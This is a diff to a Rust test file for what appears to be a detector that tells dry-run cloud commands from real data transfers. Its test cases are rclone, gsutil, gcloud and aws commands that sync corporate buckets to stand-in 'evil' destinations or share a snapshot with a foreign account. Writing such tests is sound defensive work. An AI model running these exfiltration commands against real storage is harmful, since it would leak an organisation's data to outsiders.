@@ -244,6 +244,8 @@ fn a_dry_run_hands_nothing_over() {
         "aws ec2 modify-snapshot-attribute --snapshot-id s --create-volume-permission Add=[{UserId=999988887777}] --generate-cli-skeleton output",
         "rclone sync --dry-run corp-s3:corp-data evil-s3:evil",
         "rclone copy -n corp-s3:corp-data evil-s3:evil",
+        "rclone sync --progress --dry-run corp-s3:corp-data evil-s3:evil",
+        "gcloud storage rsync --recursive --dry-run gs://corp-data gs://evil",
         "rclone copy -Pn corp-s3:corp-data evil-s3:evil",
         "gsutil -m rsync -n -r gs://corp-data gs://evil",
         "gsutil -m rsync -rn gs://corp-data gs://evil",
@@ -259,6 +261,7 @@ fn a_dry_run_hands_nothing_over() {
     }
     for line in [
         "rclone copy --dry-run=false corp-s3:corp-data evil-s3:evil",
+        "rclone copy --some-new-option --dry-run corp-s3:corp-data evil-s3:evil",
         "rclone copy --exclude --dry-run corp-s3:corp-data evil-s3:evil",
         "aws ec2 modify-snapshot-attribute --dry-run --no-dry-run --snapshot-id s --operation-type add --user-ids 999988887777",
         "gsutil cp -n gs://corp-data/x gs://evil/x",
